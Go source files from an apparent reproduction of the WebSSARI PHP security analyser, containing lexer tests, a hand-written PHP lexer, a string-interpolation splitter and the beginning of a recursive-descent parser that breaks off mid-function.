		token.OpenTag, token.Variable, token.ConcatAssign, token.Variable,
		token.Eq, token.Variable, token.Identical, token.Variable,
		token.AndAnd, token.Variable, token.OrOr, token.Not, token.Variable,
		token.Question, token.Variable, token.Colon, token.Variable,
		token.Arrow, token.Ident, token.Semicolon)
}

func TestArrowAndDoubleArrow(t *testing.T) {
	wantKinds(t, `<?php array('k' => 1); $o->p;`,
		token.OpenTag, token.KwArray, token.LParen, token.StringLit,
		token.DoubleArrow, token.IntLit, token.RParen, token.Semicolon,
		token.Variable, token.Arrow, token.Ident, token.Semicolon)
}

func TestPositions(t *testing.T) {
	src := "<?php\n$abc = 1;\n"
	toks, _ := Tokenize("f.php", []byte(src))
	v := toks[1]
	if v.Kind != token.Variable {
		t.Fatalf("token 1 = %v", v)
	}
	if v.Pos.Line != 2 || v.Pos.Col != 1 {
		t.Fatalf("pos = %v, want 2:1", v.Pos)
	}
	if src[v.Pos.Offset:v.End] != "$abc" {
		t.Fatalf("span = %q", src[v.Pos.Offset:v.End])
	}
	if got := v.Pos.String(); got != "f.php:2:1" {
		t.Fatalf("Pos.String = %q", got)
	}
}

func TestUnterminatedStringReportsError(t *testing.T) {
	_, errs := Tokenize("t", []byte(`<?php $x = "oops`))
	if len(errs) == 0 {
		t.Fatalf("want error for unterminated string")
	}
}

func TestUnexpectedCharRecovered(t *testing.T) {
	toks, errs := Tokenize("t", []byte("<?php $x \x01 = 1;"))
	if len(errs) == 0 {
		t.Fatalf("want error for unexpected char")
	}
	// Lexing continues after the bad byte.
	var kinds []token.Kind
	for _, tk := range toks {
		kinds = append(kinds, tk.Kind)
	}
	found := false
	for _, k := range kinds {
		if k == token.Assign {
			found = true
		}
	}
	if !found {
		t.Fatalf("lexer did not recover: %v", kinds)
	}
}

func TestDollarDollar(t *testing.T) {
	wantKinds(t, `<?php $$x;`, token.OpenTag, token.Dollar, token.Variable, token.Semicolon)
}

func TestSplitInterpSimpleVar(t *testing.T) {
	segs := SplitInterp(`hello $name!`)
	if len(segs) != 3 {
		t.Fatalf("segs = %+v", segs)
	}
	if segs[0].Kind != SegText || segs[0].Text != "hello " {
		t.Fatalf("seg0 = %+v", segs[0])
	}
	if segs[1].Kind != SegExpr || segs[1].Text != "$name" {
		t.Fatalf("seg1 = %+v", segs[1])
	}
	if segs[2].Kind != SegText || segs[2].Text != "!" {
		t.Fatalf("seg2 = %+v", segs[2])
	}
}

func TestSplitInterpArrayIndex(t *testing.T) {
	segs := SplitInterp(`$row[name] and $a[0] and $b[$i]`)
	if segs[0].Text != "$row['name']" {
		t.Fatalf("bare key: %+v", segs[0])
	}
	if segs[2].Text != "$a[0]" {
		t.Fatalf("numeric key: %+v", segs[2])
	}
	if segs[4].Text != "$b[$i]" {
		t.Fatalf("var key: %+v", segs[4])
	}
}

func TestSplitInterpProperty(t *testing.T) {
	segs := SplitInterp(`$obj->field rest`)
	if segs[0].Kind != SegExpr || segs[0].Text != "$obj->field" {
		t.Fatalf("segs = %+v", segs)
	}
}

func TestSplitInterpBraced(t *testing.T) {
	segs := SplitInterp(`x${name}y{$a['k']}z`)
	want := []struct {
		kind SegKind
		text string
	}{
		{SegText, "x"}, {SegExpr, "$name"}, {SegText, "y"},
		{SegExpr, "$a['k']"}, {SegText, "z"},
	}
	if len(segs) != len(want) {
		t.Fatalf("segs = %+v", segs)
	}
	for i, w := range want {
		if segs[i].Kind != w.kind || segs[i].Text != w.text {
			t.Fatalf("seg %d = %+v, want %+v", i, segs[i], w)
		}
	}
}

func TestSplitInterpEscapes(t *testing.T) {
	segs := SplitInterp(`a\n\t\$x\"\\ b\x41`)
	if len(segs) != 1 || segs[0].Kind != SegText {
		t.Fatalf("segs = %+v", segs)
	}
	if segs[0].Text != "a\n\t$x\"\\ bA" {
		t.Fatalf("text = %q", segs[0].Text)
	}
}

func TestSplitInterpNoInterp(t *testing.T) {
	segs := SplitInterp(`plain text, price $ 5`)
	if len(segs) != 1 || segs[0].Kind != SegText || segs[0].Text != "plain text, price $ 5" {
		t.Fatalf("segs = %+v", segs)
	}
}

func TestSplitInterpUnbalancedBrace(t *testing.T) {
	// With no closing brace the '{' stays literal and the variable still
	// interpolates, as in PHP.
	segs := SplitInterp(`{$oops`)
	if len(segs) != 2 || segs[0].Kind != SegText || segs[0].Text != "{" ||
		segs[1].Kind != SegExpr || segs[1].Text != "$oops" {
		t.Fatalf("segs = %+v", segs)
	}
}

func TestDecodeDoubleQuoted(t *testing.T) {
	if got := DecodeDoubleQuoted(`a\nb\q`); got != "a\nb\\q" {
		t.Fatalf("got %q", got)
	}
}

func TestLookupKeyword(t *testing.T) {
	if token.LookupKeyword("Include_Once") != token.KwIncludeOnce {
		t.Fatalf("keywords should be case-insensitive")
	}
	if token.LookupKeyword("myFunc") != token.Ident {
		t.Fatalf("non-keyword should be Ident")
	}
}
