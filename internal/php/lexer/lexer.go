// Package lexer implements a hand-written lexer for the PHP subset. It
// handles the mixed HTML/PHP structure of web scripts: text outside
// <?php ... ?> is emitted as InlineHTML tokens (which the parser turns into
// implicit echo statements — output that flows to a sensitive output
// channel just like an explicit echo).
package lexer

import (
	"fmt"
	"strings"

	"webssari/internal/php/token"
)

// Error is a lexical error with its source position.
type Error struct {
	Pos token.Pos
	Msg string
}

// Error implements the error interface.
func (e *Error) Error() string { return fmt.Sprintf("%s: %s", e.Pos, e.Msg) }

// Lexer tokenizes one PHP source file. The zero value is not usable; use New.
type Lexer struct {
	file    string
	src     string
	off     int // current byte offset
	line    int // 1-based
	lineOff int // offset of start of current line
	inPHP   bool
	errs    []error
	// pending holds a token that must be emitted before scanning resumes
	// (used when an open tag is followed immediately by a token).
	pending []token.Token
}

// New returns a lexer over src, reporting positions against the given file
// name. The lexer starts in HTML mode, as PHP does.
func New(file string, src []byte) *Lexer {
	return &Lexer{file: file, src: string(src), line: 1}
}

// Errors returns the lexical errors encountered so far.
func (l *Lexer) Errors() []error { return l.errs }

func (l *Lexer) pos() token.Pos {
	return token.Pos{File: l.file, Line: l.line, Col: l.off - l.lineOff + 1, Offset: l.off}
}

func (l *Lexer) errorf(p token.Pos, format string, args ...any) {
	l.errs = append(l.errs, &Error{Pos: p, Msg: fmt.Sprintf(format, args...)})
}

// advance consumes n bytes, maintaining line/column bookkeeping.
func (l *Lexer) advance(n int) {
	for i := 0; i < n && l.off < len(l.src); i++ {
		if l.src[l.off] == '\n' {
			l.line++
			l.lineOff = l.off + 1
		}
		l.off++
	}
}

func (l *Lexer) peek() byte {
	if l.off < len(l.src) {
		return l.src[l.off]
	}
	return 0
}

func (l *Lexer) peekAt(k int) byte {
	if l.off+k < len(l.src) {
		return l.src[l.off+k]
	}
	return 0
}

func (l *Lexer) hasPrefix(s string) bool {
	return strings.HasPrefix(l.src[l.off:], s)
}

// Next returns the next token. After EOF it keeps returning EOF.
func (l *Lexer) Next() token.Token {
	if len(l.pending) > 0 {
		t := l.pending[0]
		l.pending = l.pending[1:]
		return t
	}
	if !l.inPHP {
		return l.scanHTML()
	}
	return l.scanPHP()
}

// Tokenize lexes the whole of src and returns all tokens up to and
// including the EOF token, along with any lexical errors.
func Tokenize(file string, src []byte) ([]token.Token, []error) {
	l := New(file, src)
	var toks []token.Token
	for {
		t := l.Next()
		toks = append(toks, t)
		if t.Kind == token.EOF {
			break
		}
	}
	return toks, l.Errors()
}

func (l *Lexer) scanHTML() token.Token {
	start := l.pos()
	if l.off >= len(l.src) {
		return token.Token{Kind: token.EOF, Pos: start, End: l.off}
	}
	idx := strings.Index(l.src[l.off:], "<?")
	if idx < 0 {
		text := l.src[l.off:]
		l.advance(len(text))
		return token.Token{Kind: token.InlineHTML, Text: text, Pos: start, End: l.off}
	}
	if idx > 0 {
		text := l.src[l.off : l.off+idx]
		l.advance(idx)
		return token.Token{Kind: token.InlineHTML, Text: text, Pos: start, End: l.off}
	}
	// At an open tag.
	l.inPHP = true
	tagPos := l.pos()
	switch {
	case l.hasPrefix("<?php"):
		l.advance(5)
		return token.Token{Kind: token.OpenTag, Text: "<?php", Pos: tagPos, End: l.off}
	case l.hasPrefix("<?="):
		l.advance(3)
		return token.Token{Kind: token.OpenEcho, Text: "<?=", Pos: tagPos, End: l.off}
	default: // short open tag "<?"
		l.advance(2)
		return token.Token{Kind: token.OpenTag, Text: "<?", Pos: tagPos, End: l.off}
	}
}

func isIdentStart(c byte) bool {
	return c == '_' || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c >= 0x80
}

func isIdentCont(c byte) bool {
	return isIdentStart(c) || (c >= '0' && c <= '9')
}

func isDigit(c byte) bool { return c >= '0' && c <= '9' }

func (l *Lexer) skipSpaceAndComments() {
	for l.off < len(l.src) {
		c := l.src[l.off]
		switch {
		case c == ' ' || c == '\t' || c == '\r' || c == '\n':
			l.advance(1)
		case c == '/' && l.peekAt(1) == '/':
			l.skipLineComment()
		case c == '#':
			l.skipLineComment()
		case c == '/' && l.peekAt(1) == '*':
			p := l.pos()
			l.advance(2)
			end := strings.Index(l.src[l.off:], "*/")
			if end < 0 {
				l.errorf(p, "unterminated block comment")
				l.advance(len(l.src) - l.off)
				return
			}
			l.advance(end + 2)
		default:
			return
		}
	}
}

// skipLineComment consumes to end of line, but stops at '?>' which ends
// PHP mode even inside a // or # comment (as real PHP does).
func (l *Lexer) skipLineComment() {
	for l.off < len(l.src) {
		if l.src[l.off] == '\n' {
			return
		}
		if l.hasPrefix("?>") {
			return
		}
		l.advance(1)
	}
}

func (l *Lexer) scanPHP() token.Token {
	l.skipSpaceAndComments()
	start := l.pos()
	if l.off >= len(l.src) {
		return token.Token{Kind: token.EOF, Pos: start, End: l.off}
	}

	c := l.src[l.off]

	if l.hasPrefix("?>") {
		l.advance(2)
		// PHP eats a single newline immediately following ?>.
		if l.peek() == '\n' {
			l.advance(1)
		} else if l.peek() == '\r' && l.peekAt(1) == '\n' {
			l.advance(2)
		}
		l.inPHP = false
		return token.Token{Kind: token.CloseTag, Text: "?>", Pos: start, End: l.off}
	}

	switch {
	case c == '$':
		if isIdentStart(l.peekAt(1)) {
			l.advance(1)
			name := l.scanIdentText()
			return token.Token{Kind: token.Variable, Text: name, Pos: start, End: l.off}
		}
		l.advance(1)
		return token.Token{Kind: token.Dollar, Text: "$", Pos: start, End: l.off}

	case isIdentStart(c):
		name := l.scanIdentText()
		kind := token.LookupKeyword(name)
		return token.Token{Kind: kind, Text: name, Pos: start, End: l.off}

	case isDigit(c) || (c == '.' && isDigit(l.peekAt(1))):
		return l.scanNumber(start)

	case c == '\'':
		return l.scanSingleQuoted(start)

	case c == '"':
		return l.scanDoubleQuoted(start)

	case c == '`':
		return l.scanBacktick(start)

	case l.hasPrefix("<<<"):
		return l.scanHeredoc(start)
	}

	return l.scanOperator(start)
}

func (l *Lexer) scanIdentText() string {
	begin := l.off
	for l.off < len(l.src) && isIdentCont(l.src[l.off]) {
		l.advance(1)
	}
	return l.src[begin:l.off]
}

func (l *Lexer) scanNumber(start token.Pos) token.Token {
	begin := l.off
	kind := token.IntLit
	if l.peek() == '0' && (l.peekAt(1) == 'x' || l.peekAt(1) == 'X') {
		l.advance(2)
		for l.off < len(l.src) && isHexDigit(l.src[l.off]) {
			l.advance(1)
		}
		return token.Token{Kind: token.IntLit, Text: l.src[begin:l.off], Pos: start, End: l.off}
	}
	for l.off < len(l.src) && isDigit(l.src[l.off]) {
		l.advance(1)
	}
	if l.peek() == '.' && isDigit(l.peekAt(1)) {
		kind = token.FloatLit
		l.advance(1)
		for l.off < len(l.src) && isDigit(l.src[l.off]) {
			l.advance(1)
		}
	}
	if e := l.peek(); e == 'e' || e == 'E' {
		k := 1
		if s := l.peekAt(1); s == '+' || s == '-' {
			k = 2
		}
		if isDigit(l.peekAt(k)) {
			kind = token.FloatLit
			l.advance(k)
			for l.off < len(l.src) && isDigit(l.src[l.off]) {
				l.advance(1)
			}
		}
	}
	return token.Token{Kind: kind, Text: l.src[begin:l.off], Pos: start, End: l.off}
}

func isHexDigit(c byte) bool {
	return isDigit(c) || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F')
}

func (l *Lexer) scanSingleQuoted(start token.Pos) token.Token {
	l.advance(1) // opening quote
	var b strings.Builder
	for l.off < len(l.src) {
		c := l.src[l.off]
		if c == '\'' {
			l.advance(1)
			return token.Token{Kind: token.StringLit, Text: b.String(), Pos: start, End: l.off}
		}
		if c == '\\' {
			n := l.peekAt(1)
			if n == '\'' || n == '\\' {
				b.WriteByte(n)
				l.advance(2)
				continue
			}
		}
		b.WriteByte(c)
		l.advance(1)
	}
	l.errorf(start, "unterminated single-quoted string")
	return token.Token{Kind: token.StringLit, Text: b.String(), Pos: start, End: l.off}
}

// scanDoubleQuoted keeps the raw body (escapes and interpolation intact);
// decoding and interpolation splitting happen in SplitInterp so the parser
// can turn the pieces into a concatenation expression.
func (l *Lexer) scanDoubleQuoted(start token.Pos) token.Token {
	l.advance(1) // opening quote
	begin := l.off
	for l.off < len(l.src) {
		c := l.src[l.off]
		if c == '"' {
			raw := l.src[begin:l.off]
			l.advance(1)
			return token.Token{Kind: token.InterpString, Text: raw, Pos: start, End: l.off}
		}
		if c == '\\' && l.off+1 < len(l.src) {
			l.advance(2)
			continue
		}
		l.advance(1)
	}
	l.errorf(start, "unterminated double-quoted string")
	return token.Token{Kind: token.InterpString, Text: l.src[begin:l.off], Pos: start, End: l.off}
}

// scanBacktick scans a shell-execution string; like double-quoted strings
// it keeps the raw interpolation-bearing body.
func (l *Lexer) scanBacktick(start token.Pos) token.Token {
	l.advance(1) // opening backtick
	begin := l.off
	for l.off < len(l.src) {
		c := l.src[l.off]
		if c == '`' {
			raw := l.src[begin:l.off]
			l.advance(1)
			return token.Token{Kind: token.BacktickString, Text: raw, Pos: start, End: l.off}
		}
		if c == '\\' && l.off+1 < len(l.src) {
			l.advance(2)
			continue
		}
		l.advance(1)
	}
	l.errorf(start, "unterminated backtick string")
	return token.Token{Kind: token.BacktickString, Text: l.src[begin:l.off], Pos: start, End: l.off}
}

func (l *Lexer) scanHeredoc(start token.Pos) token.Token {
	l.advance(3) // <<<
	// Optional quotes around the label: <<<"EOT" interpolates, <<<'EOT' is
	// a nowdoc (no interpolation). We record nowdocs as StringLit.
	nowdoc := false
	if l.peek() == '\'' {
		nowdoc = true
		l.advance(1)
	} else if l.peek() == '"' {
		l.advance(1)
	}
	label := l.scanIdentText()
	if label == "" {
		l.errorf(start, "heredoc start tag missing label")
	}
	if l.peek() == '\'' || l.peek() == '"' {
		l.advance(1)
	}
	if l.peek() == '\r' {
		l.advance(1)
	}
	if l.peek() == '\n' {
		l.advance(1)
	}
	begin := l.off
	// The closing label must appear at the start of a line.
	for l.off < len(l.src) {
		lineStart := l.off == 0 || l.src[l.off-1] == '\n'
		if lineStart && strings.HasPrefix(l.src[l.off:], label) {
			after := l.off + len(label)
			if after >= len(l.src) || l.src[after] == ';' || l.src[after] == '\n' || l.src[after] == '\r' {
				raw := strings.TrimSuffix(l.src[begin:l.off], "\n")
				raw = strings.TrimSuffix(raw, "\r")
				l.advance(len(label))
				kind := token.HeredocString
				if nowdoc {
					kind = token.StringLit
				}
				return token.Token{Kind: kind, Text: raw, Pos: start, End: l.off}
			}
		}
		l.advance(1)
	}
	l.errorf(start, "unterminated heredoc %q", label)
	return token.Token{Kind: token.HeredocString, Text: l.src[begin:l.off], Pos: start, End: l.off}
}

// operator table ordered longest-first so maximal munch works.
var operators = []struct {
	text string
	kind token.Kind
}{
	{"===", token.Identical},
	{"!==", token.NotIdent},
	{"<<=", token.Invalid}, // unsupported, reported below
	{">>=", token.Invalid},
	{".=", token.ConcatAssign},
	{"+=", token.PlusAssign},
	{"-=", token.MinusAssign},
	{"*=", token.StarAssign},
	{"/=", token.SlashAssign},
	{"%=", token.PercentAssign},
	{"==", token.Eq},
	{"!=", token.NotEq},
	{"<>", token.NotEq},
	{"<=", token.LtEq},
	{">=", token.GtEq},
	{"&&", token.AndAnd},
	{"||", token.OrOr},
	{"<<", token.Shl},
	{">>", token.Shr},
	{"++", token.Inc},
	{"--", token.Dec},
	{"->", token.Arrow},
	{"=>", token.DoubleArrow},
	{"::", token.DoubleColon},
	{"=", token.Assign},
	{"<", token.Lt},
	{">", token.Gt},
	{"+", token.Plus},
	{"-", token.Minus},
	{"*", token.Star},
	{"/", token.Slash},
	{"%", token.Percent},
	{".", token.Dot},
	{"!", token.Not},
	{"&", token.Amp},
	{"|", token.Pipe},
	{"^", token.Caret},
	{"~", token.Tilde},
	{"?", token.Question},
	{":", token.Colon},
	{",", token.Comma},
	{";", token.Semicolon},
	{"(", token.LParen},
	{")", token.RParen},
	{"{", token.LBrace},
	{"}", token.RBrace},
	{"[", token.LBracket},
	{"]", token.RBracket},
	{"@", token.At},
}

func (l *Lexer) scanOperator(start token.Pos) token.Token {
	for _, op := range operators {
		if l.hasPrefix(op.text) {
			l.advance(len(op.text))
			if op.kind == token.Invalid {
				l.errorf(start, "unsupported operator %q", op.text)
				return l.Next()
			}
			return token.Token{Kind: op.kind, Text: op.text, Pos: start, End: l.off}
		}
	}
	l.errorf(start, "unexpected character %q", l.src[l.off])
	l.advance(1)
	return l.Next()
}
