package lexer

import (
	"strings"
)

// SegKind distinguishes the parts of a double-quoted (or heredoc) string.
type SegKind int

// Segment kinds.
const (
	// SegText is a run of literal text (escape sequences already decoded).
	SegText SegKind = iota + 1
	// SegExpr is an embedded PHP expression, stored as raw PHP source that
	// the parser re-parses (e.g. `$x`, `$a['k']`, `$o->p`).
	SegExpr
)

// Segment is one piece of an interpolated string.
type Segment struct {
	Kind SegKind
	// Text is the decoded literal for SegText, or raw PHP source for
	// SegExpr.
	Text string
	// Off is the byte offset of the segment within the raw string body.
	Off int
}

// SplitInterp splits the raw body of a double-quoted string or heredoc into
// literal text and embedded expression segments. It supports the PHP
// interpolation forms:
//
//	"$var"            simple variable
//	"$var[key]"       array element; a bare-word key is quoted ($a[k] → $a['k'])
//	"$var->prop"      property access
//	"${var}"          braced simple syntax
//	"{$expr}"         complex syntax: arbitrary expression until matching }
//
// Escape sequences in the literal parts are decoded per double-quoted-string
// rules (\n, \t, \r, \\, \", \$, \0, \xNN).
func SplitInterp(raw string) []Segment {
	var segs []Segment
	var lit strings.Builder
	litOff := 0
	flush := func(nextOff int) {
		if lit.Len() > 0 {
			segs = append(segs, Segment{Kind: SegText, Text: lit.String(), Off: litOff})
			lit.Reset()
		}
		litOff = nextOff
	}

	i := 0
	for i < len(raw) {
		c := raw[i]
		switch {
		case c == '\\' && i+1 < len(raw):
			d, n := decodeEscape(raw[i:])
			lit.WriteString(d)
			i += n

		case c == '$' && i+1 < len(raw) && raw[i+1] == '{':
			// ${var} or ${var[expr]}
			end := matchBrace(raw, i+1)
			if end < 0 {
				lit.WriteByte(c)
				i++
				continue
			}
			flush(i)
			inner := raw[i+2 : end]
			segs = append(segs, Segment{Kind: SegExpr, Text: "$" + inner, Off: i})
			i = end + 1
			litOff = i

		case c == '$' && i+1 < len(raw) && isIdentStart(raw[i+1]):
			start := i
			i++
			j := i
			for j < len(raw) && isIdentCont(raw[j]) {
				j++
			}
			expr := "$" + raw[i:j]
			i = j
			// Optional single [index] or ->prop suffix (simple syntax
			// allows exactly one level).
			if i < len(raw) && raw[i] == '[' {
				k := strings.IndexByte(raw[i:], ']')
				if k > 0 {
					idx := raw[i+1 : i+k]
					expr += "[" + normalizeSimpleIndex(idx) + "]"
					i += k + 1
				}
			} else if i+2 < len(raw) && raw[i] == '-' && raw[i+1] == '>' && isIdentStart(raw[i+2]) {
				k := i + 2
				for k < len(raw) && isIdentCont(raw[k]) {
					k++
				}
				expr += "->" + raw[i+2:k]
				i = k
			}
			flush(start)
			segs = append(segs, Segment{Kind: SegExpr, Text: expr, Off: start})
			litOff = i

		case c == '{' && i+1 < len(raw) && raw[i+1] == '$':
			end := matchBrace(raw, i)
			if end < 0 {
				lit.WriteByte(c)
				i++
				continue
			}
			flush(i)
			segs = append(segs, Segment{Kind: SegExpr, Text: raw[i+1 : end], Off: i})
			i = end + 1
			litOff = i

		default:
			lit.WriteByte(c)
			i++
		}
	}
	flush(len(raw))
	return segs
}

// matchBrace returns the index of the '}' matching the '{' at raw[open],
// or -1 if unbalanced. Nested braces and quoted strings inside are handled.
func matchBrace(raw string, open int) int {
	depth := 0
	i := open
	for i < len(raw) {
		switch raw[i] {
		case '{':
			depth++
		case '}':
			depth--
			if depth == 0 {
				return i
			}
		case '\'', '"':
			q := raw[i]
			i++
			for i < len(raw) && raw[i] != q {
				if raw[i] == '\\' {
					i++
				}
				i++
			}
		}
		i++
	}
	return -1
}

// normalizeSimpleIndex quotes a bare-word array key as PHP's simple
// interpolation syntax does: "$a[key]" means $a['key'], while "$a[0]" and
// "$a[$i]" keep their meaning.
func normalizeSimpleIndex(idx string) string {
	if idx == "" {
		return idx
	}
	if idx[0] == '$' || isDigit(idx[0]) || idx[0] == '\'' || idx[0] == '"' {
		return idx
	}
	return "'" + idx + "'"
}

// decodeEscape decodes a backslash escape at the start of s, returning the
// decoded text and the number of input bytes consumed.
func decodeEscape(s string) (string, int) {
	if len(s) < 2 {
		return s, len(s)
	}
	switch s[1] {
	case 'n':
		return "\n", 2
	case 't':
		return "\t", 2
	case 'r':
		return "\r", 2
	case 'v':
		return "\v", 2
	case 'f':
		return "\f", 2
	case '\\':
		return "\\", 2
	case '"':
		return "\"", 2
	case '$':
		return "$", 2
	case '0':
		return "\x00", 2
	case 'x':
		if len(s) >= 3 && isHexDigit(s[2]) {
			n := hexVal(s[2])
			consumed := 3
			if len(s) >= 4 && isHexDigit(s[3]) {
				n = n*16 + hexVal(s[3])
				consumed = 4
			}
			return string(rune(n)), consumed
		}
		return "\\x", 2
	default:
		// Unknown escapes keep the backslash, as PHP does.
		return s[:2], 2
	}
}

func hexVal(c byte) int {
	switch {
	case c >= '0' && c <= '9':
		return int(c - '0')
	case c >= 'a' && c <= 'f':
		return int(c-'a') + 10
	default:
		return int(c-'A') + 10
	}
}

// DecodeDoubleQuoted decodes the escape sequences of a raw double-quoted
// string body without splitting interpolation. It is used for bodies that
// SplitInterp classified as pure text.
func DecodeDoubleQuoted(raw string) string {
	var b strings.Builder
	i := 0
	for i < len(raw) {
		if raw[i] == '\\' && i+1 < len(raw) {
			d, n := decodeEscape(raw[i:])
			b.WriteString(d)
			i += n
			continue
		}
		b.WriteByte(raw[i])
		i++
	}
	return b.String()
}
