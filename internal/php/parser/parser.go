// Package parser implements a recursive-descent parser for the PHP subset.
//
// The paper's WebSSARI used a SableCC-generated LALR(1) parser; this
// reproduction uses a hand-written recursive-descent parser over the same
// language surface (see DESIGN.md for the substitution rationale). The
// parser is error-tolerant: it records diagnostics and synchronizes at
// statement boundaries so one malformed statement does not abort analysis
// of a whole file — important when scanning a large corpus.
package parser

import (
	"fmt"
	"strconv"
	"strings"

	"webssari/internal/php/ast"
	"webssari/internal/php/lexer"
	"webssari/internal/php/token"
)

// Error is a syntax error with its source position.
type Error struct {
	Pos token.Pos
	Msg string
}

// Error implements the error interface.
func (e *Error) Error() string { return fmt.Sprintf("%s: %s", e.Pos, e.Msg) }

// Result bundles the parsed file with any diagnostics produced on the way.
type Result struct {
	File *ast.File
	// Errs holds lexical and syntax errors; the File is still usable (the
	// parser synchronizes at statement boundaries).
	Errs []error
}

// maxParseErrors bounds diagnostic accumulation on pathological inputs.
const maxParseErrors = 200

// Parse parses one PHP source file.
func Parse(name string, src []byte) *Result {
	toks, lexErrs := lexer.Tokenize(name, src)
	p := &parser{name: name, toks: toks}
	p.errs = append(p.errs, lexErrs...)
	stmts := p.parseProgram()
	return &Result{
		File: &ast.File{Name: name, Stmts: stmts},
		Errs: p.errs,
	}
}

// ParseExprString parses a standalone PHP expression (used to re-parse the
// embedded expressions of interpolated strings).
func ParseExprString(name string, src string) (ast.Expr, []error) {
	toks, lexErrs := lexer.Tokenize(name, []byte("<?php "+src))
	p := &parser{name: name, toks: toks}
	p.errs = append(p.errs, lexErrs...)
	p.expect(token.OpenTag)
	e := p.parseExpr()
	return e, p.errs
}

type parser struct {
	name string
	toks []token.Token
	pos  int
	errs []error
}

func (p *parser) cur() token.Token { return p.toks[p.pos] }
func (p *parser) kind() token.Kind { return p.toks[p.pos].Kind }
func (p *parser) peek() token.Kind {
	if p.pos+1 < len(p.toks) {
		return p.toks[p.pos+1].Kind
	}
	return token.EOF
}

func (p *parser) advance() token.Token {
	t := p.toks[p.pos]
	if p.pos < len(p.toks)-1 {
		p.pos++
	}
	return t
}

func (p *parser) at(k token.Kind) bool { return p.kind() == k }

func (p *parser) accept(k token.Kind) (token.Token, bool) {
	if p.at(k) {
		return p.advance(), true
	}
	return token.Token{}, false
}

func (p *parser) expect(k token.Kind) token.Token {
	if p.at(k) {
		return p.advance()
	}
	p.errorf("expected %v, found %v", k, p.cur())
	return token.Token{Kind: k, Pos: p.cur().Pos, End: p.cur().Pos.Offset}
}

func (p *parser) errorf(format string, args ...any) {
	if len(p.errs) >= maxParseErrors {
		return
	}
	p.errs = append(p.errs, &Error{Pos: p.cur().Pos, Msg: fmt.Sprintf(format, args...)})
}

func span(start token.Pos, end int) ast.Span {
	return ast.Span{Start: start, StopOff: end}
}

// synchronize skips tokens until a likely statement boundary.
func (p *parser) synchronize() {
	for {
		switch p.kind() {
		case token.EOF:
			return
		case token.Semicolon, token.RBrace, token.CloseTag:
			p.advance()
			return
		case token.KwIf, token.KwWhile, token.KwFor, token.KwForeach,
			token.KwFunction, token.KwReturn, token.KwEcho, token.KwSwitch,
			token.KwClass:
			return
		}
		p.advance()
	}
}

// ------------------------------------------------------------------ program

func (p *parser) parseProgram() []ast.Stmt {
	var stmts []ast.Stmt
	for !p.at(token.EOF) {
		s := p.parseTopLevel()
		if s != nil {
			stmts = append(stmts, s)
		}
	}
	return stmts
}

// parseTopLevel handles the HTML/PHP mode-switching tokens and returns the
// next statement, or nil for pure mode switches.
func (p *parser) parseTopLevel() ast.Stmt {
	switch p.kind() {
	case token.InlineHTML:
		t := p.advance()
		return &ast.InlineHTMLStmt{Span: span(t.Pos, t.End), Text: t.Text}
	case token.OpenTag, token.CloseTag:
		p.advance()
		return nil
	case token.OpenEcho:
		open := p.advance()
		first := p.parseExpr()
		if first == nil {
			p.errorf("expected expression after <?=")
			p.synchronize()
			return nil
		}
		args := []ast.Expr{first}
		for p.at(token.Comma) {
			p.advance()
			if next := p.parseExpr(); next != nil {
				args = append(args, next)
			}
		}
		end := args[len(args)-1].End()
		if _, ok := p.accept(token.Semicolon); ok {
			end = p.toks[p.pos-1].End
		}
		return &ast.EchoStmt{Span: span(open.Pos, end), Args: args}
	default:
		return p.parseStmt()
	}
}

// parseBody parses either a braced block or a single statement and returns
// the statement list. PHP's alternative syntax bodies (": ... endX") are
// parsed by the individual statement parsers.
func (p *parser) parseBody() []ast.Stmt {
	if p.at(token.LBrace) {
		p.advance()
		var body []ast.Stmt
		for !p.at(token.RBrace) && !p.at(token.EOF) {
			if s := p.parseTopLevel(); s != nil {
				body = append(body, s)
			}
		}
		p.expect(token.RBrace)
		return body
	}
	if s := p.parseTopLevel(); s != nil {
		return []ast.Stmt{s}
	}
	return nil
}

// parseAltBody parses statements until one of the terminator keywords is
// reached (alternative syntax: "if (...): ... endif;").
func (p *parser) parseAltBody(terms ...token.Kind) []ast.Stmt {
	var body []ast.Stmt
	for !p.at(token.EOF) {
		for _, t := range terms {
			if p.at(t) {
				return body
			}
		}
		if s := p.parseTopLevel(); s != nil {
			body = append(body, s)
		}
	}
	return body
}

func (p *parser) parseStmt() ast.Stmt {
	start := p.cur().Pos
	switch p.kind() {
	case token.Semicolon:
		t := p.advance()
		return &ast.NopStmt{Span: span(t.Pos, t.End)}
	case token.LBrace:
		body := p.parseBody()
		end := p.toks[p.pos-1].End
		return &ast.BlockStmt{Span: span(start, end), Body: body}
	case token.KwIf:
		return p.parseIf()
	case token.KwWhile:
		return p.parseWhile()
	case token.KwDo:
		return p.parseDoWhile()
	case token.KwFor:
		return p.parseFor()
	case token.KwForeach:
		return p.parseForeach()
	case token.KwSwitch:
		return p.parseSwitch()
	case token.KwBreak, token.KwContinue:
		return p.parseBreakContinue()
	case token.KwReturn:
		return p.parseReturn()
	case token.KwEcho:
		return p.parseEcho()
	case token.KwGlobal:
		return p.parseGlobal()
	case token.KwStatic:
		// Distinguish "static $x = 1;" from a static method call
		// "Foo::bar()" (which cannot start with the keyword) — the keyword
		// form is always followed by a variable.
		if p.peek() == token.Variable {
			return p.parseStaticVars()
		}
		p.errorf("unexpected 'static'")
		p.synchronize()
		return nil
	case token.KwUnset:
		return p.parseUnset()
	case token.KwFunction:
		// "function name(...)" declares; "function (...)" at statement level
		// is an anonymous function in expression position.
		if p.peek() == token.LParen {
			return p.parseExprStmt()
		}
		return p.parseFunction()
	case token.KwClass:
		return p.parseClass()
	default:
		return p.parseExprStmt()
	}
}

func (p *parser) parseExprStmt() ast.Stmt {
	start := p.cur().Pos
	e := p.parseExpr()
	if e == nil {
		p.errorf("expected statement, found %v", p.cur())
		p.synchronize()
		return nil
	}
	end := e.End()
	if _, ok := p.accept(token.Semicolon); ok {
		end = p.toks[p.pos-1].End
	} else if !p.at(token.CloseTag) && !p.at(token.EOF) && !p.at(token.RBrace) {
		p.errorf("expected ';', found %v", p.cur())
		p.synchronize()
	}
	return &ast.ExprStmt{Span: span(start, end), X: e}
}

func (p *parser) parseIf() ast.Stmt {
	start := p.advance().Pos // if
	p.expect(token.LParen)
	cond := p.parseExpr()
	p.expect(token.RParen)

	node := &ast.IfStmt{Cond: cond}
	if _, alt := p.accept(token.Colon); alt {
		node.Then = p.parseAltBody(token.KwElseif, token.KwElse, token.KwEndif)
		for p.at(token.KwElseif) {
			p.advance()
